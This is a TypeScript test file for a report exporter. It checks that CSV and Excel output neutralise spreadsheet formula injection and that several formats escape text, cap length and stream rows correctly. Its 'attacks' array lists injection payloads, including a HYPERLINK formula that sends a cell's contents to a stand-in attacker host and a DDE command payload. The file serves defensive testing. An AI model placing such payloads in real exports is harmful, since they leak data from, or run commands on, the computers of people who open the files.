import { inflateRawSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { parquetReadObjects } from 'hyparquet';
import { SaxesParser } from 'saxes';
import { expect, test } from 'vitest';
import { limits } from '../../src/limits.ts';
import { writeXlsx } from '../../src/report/export/xlsx.ts';
import {
  type ExportFormat,
  exportFormats,
  figuresOf,
  mediaTypes,
  published,
  type Sheet,
  savedReports,
  sheetOfFigures,
  writeSheet,
} from '../../src/report/index.ts';

async function written(format: ExportFormat, sheet: Sheet): Promise<Buffer> {
  const pieces: Buffer[] = [];
  await writeSheet(format, sheet, async (piece) => {
    pieces.push(Buffer.from(piece));
  });
  return Buffer.concat(pieces);
}

/** What a form may hold in the place of a name. */
const attacks = [
  '=HYPERLINK("http://evil.example.org/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\u200b=1+1',
];
const sheetOf = (texts: string[]): Sheet => ({
  title: 'Attack',
  columns: [
    { name: 'name', heading: 'Name', type: 'text' },
    { name: 'change', heading: 'Change', type: 'number' },
    { name: 'codes', heading: 'Codes', type: 'list' },
  ],
  rows: texts.map((name) => ({ name, change: -3, codes: ['=a', 'b'] })),
});

test('no text of a form is a formula in a CSV file, and a negative number stays a number', async () => {
  const rows: string[][] = parse(await written('csv', sheetOf(attacks)), { bom: true, from_line: 2 });
  expect(rows.map(([name]) => name)).toEqual(attacks.map((attack) => `'${attack}`));
  expect(rows.map(([, change]) => change)).toEqual(attacks.map(() => '-3'));
  expect(rows.map(([, , codes]) => codes)).toEqual(attacks.map(() => "'=a; b"));
});

test('quotes, separators and line ends of a text stay inside its cell', async () => {
  const text = 'a "b", c\r\n=d;e';
  const [row] = parse(await written('csv', sheetOf([text])), { bom: true, from_line: 2 }) as string[][];
  expect(row?.[0]).toBe(text);
});

test('no cell of a workbook holds a formula, and texts are texts', async () => {
  const sheet = entryOf(
    await written('xlsx', sheetOf([...attacks, 'bell\u0007 and \ufffe'])),
    'xl/worksheets/sheet1.xml',
  );
  expect(sheet).not.toMatch(/<f[ >]/);
  expect(sheet.match(/t="(s|inlineStr)"/g)?.length).toBe(3 + 2 * (attacks.length + 1));
  expect(sheet).toContain('<v>-3</v>');
});

test('a text that is too long for a cell of a workbook says that it goes on', async () => {
  const whole = 'a'.repeat(32_767);
  const sheet = async (text: string) => entryOf(await written('xlsx', sheetOf([text])), 'xl/worksheets/sheet1.xml');
  expect(await sheet(whole)).toContain(`>${whole}<`);
  const cells = (await sheet(`${whole}b`)).match(/>a+[^<]*</g);
  expect(cells).toEqual([expect.stringMatching(/^>a{32000}a+ \.\.\. \(cut here: .*whole text\)<$/)]);
  expect(cells?.[0]?.length).toBe(32_767 + 2);
});

test('a workbook has as many rows as a sheet of Excel, and a longer table is said to be too long instead of being cut', async () => {
  expect(limits.workbookRows).toBe(2 ** 20 - 1);
  const write = (rows: number) =>
    writeXlsx(
      {
        title: 'Long',
        columns: [{ name: 'change', heading: 'Change', type: 'number' }],
        rows: Array.from({ length: rows }, (_, change) => ({ change })),
      },
      async () => {},
      10_000,
    );
  expect(await write(10_000)).toEqual({ kind: 'written', rows: 10_000 });
  expect(await write(10_001)).toEqual({ kind: 'too_many_rows', most: 10_000 });
});

test('what goes wrong in the rows or on the way out ends a workbook with that fault, and the rows are asked no further', async () => {
  let asked = 0;
  async function* rows(failAt: number) {
    for (; asked < 500_000; asked += 1) {
      if (asked === failAt) throw new Error('the database went away');
      yield { name: 'x', change: asked, codes: null };
    }
  }
  const sheet = (failAt: number) => ({ ...sheetOf([]), rows: rows(failAt) });
  await expect(writeSheet('xlsx', sheet(1_000), async () => {})).rejects.toThrow('the database went away');
  asked = 0;
  const broken = async () => {
    throw new Error('the browser went away');
  };
  await expect(writeSheet('xlsx', sheet(-1), broken)).rejects.toThrow('the browser went away');
  expect(asked).toBeLessThan(100_000);
});

test('a workbook holds the texts as they are: signs of XML, line ends, pairs and halves of pairs', async () => {
  const texts = ['a < b & "c" > d', 'one\ntwo\r\nthree', '\u{1f600}', 'half \ud83d', '  blanks  '];
  const sheet = entryOf(await written('xlsx', sheetOf(texts)), 'xl/worksheets/sheet1.xml');
  const found: string[] = [];
  const parser = new SaxesParser();
  let text = '';
  parser.on('opentag', ({ name }) => {
    if (name === 't') text = '';
  });
  parser.on('text', (piece) => {
    text += piece;
  });
  parser.on('closetag', ({ name }) => {
    if (name === 't') found.push(text);
  });
  parser.write(sheet).close();
  const codes = "'=a; b";
  expect(found).toEqual([
    'Name',
    'Change',
    'Codes',
    ...texts.flatMap((one) => [one === 'half \ud83d' ? 'half \ufffd' : one, codes]),
  ]);
});

test('JSON and Parquet hold the same rows as they are', async () => {
  const sheet = sheetOf(['plain', '=1']);
  expect(JSON.parse((await written('json', sheet)).toString())).toEqual([
    { name: 'plain', change: -3, codes: ['=a', 'b'] },
    { name: '=1', change: -3, codes: ['=a', 'b'] },
  ]);
  const bytes = await written('parquet', sheet);
  const file = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer;
  expect(await parquetReadObjects({ file })).toEqual([
    { name: 'plain', change: -3n, codes: ['=a', 'b'] },
    { name: '=1', change: -3n, codes: ['=a', 'b'] },
  ]);
});

test.each(exportFormats)('a table without rows is a %s file all the same', async (format) => {
  const bytes = await written(format, sheetOf([]));
  expect(bytes.length).toBeGreaterThan(2);
  expect(mediaTypes[format]).toMatch(/^(text|application)\//);
});

test('a large table is written in pieces, one after the other, and none is kept', async () => {
  let open = 0;
  let pieces = 0;
  async function* many() {
    for (let at = 0; at < 50_000; at += 1) yield { name: `row ${at}`, change: at, codes: ['a'] };
  }
  for (const format of exportFormats) {
    pieces = 0;
    const exported = await writeSheet(format, { ...sheetOf([]), rows: many() }, async () => {
      expect(open).toBe(0);
      open += 1;
      await new Promise((resolve) => setImmediate(resolve));
      open -= 1;
      pieces += 1;
    });
    expect(exported).toEqual({ kind: 'written', rows: 50_000 });
    expect(pieces).toBeGreaterThan(2);
  }
});

test('a published report has texts in its counts throughout, and its totals at the end', async () => {
  const report = savedReports.find(({ name }) => name === 'received');
  if (!report) throw new Error('no report');
  const figures = figuresOf(report, '2026-01-01', '2026-02-28', [
    { month: '2026-01', referrals: 3, toolkits: 20 },
    { month: '2026-02', referrals: 9, toolkits: 0 },
  ]);
  const rows = JSON.parse((await written('json', sheetOfFigures(published(figures)))).toString());
  expect(rows.map((row: { month: string }) => row.month)).toEqual(['2026-01', '2026-02', 'Total']);
  expect(rows[0].referrals).toBe('c');
  expect(rows[1].toolkits).toBe('0');
  expect(JSON.parse((await written('json', sheetOfFigures(figures))).toString())[2]).toEqual({
    month: 'Total',
    referrals: 12,
    toolkits: 20,
    forms: 32,
  });
});

/** One file of a zip, found by its local header. */
function entryOf(zip: Buffer, name: string): string {
  const at = zip.indexOf(name) - 30;
  const end = zip.indexOf(Buffer.from('PK\u0001\u0002', 'latin1'));
  const start = at + 30 + zip.readUInt16LE(at + 26) + zip.readUInt16LE(at + 28);
  return inflateRawSync(zip.subarray(start, end), { finishFlush: 2 }).toString();
}
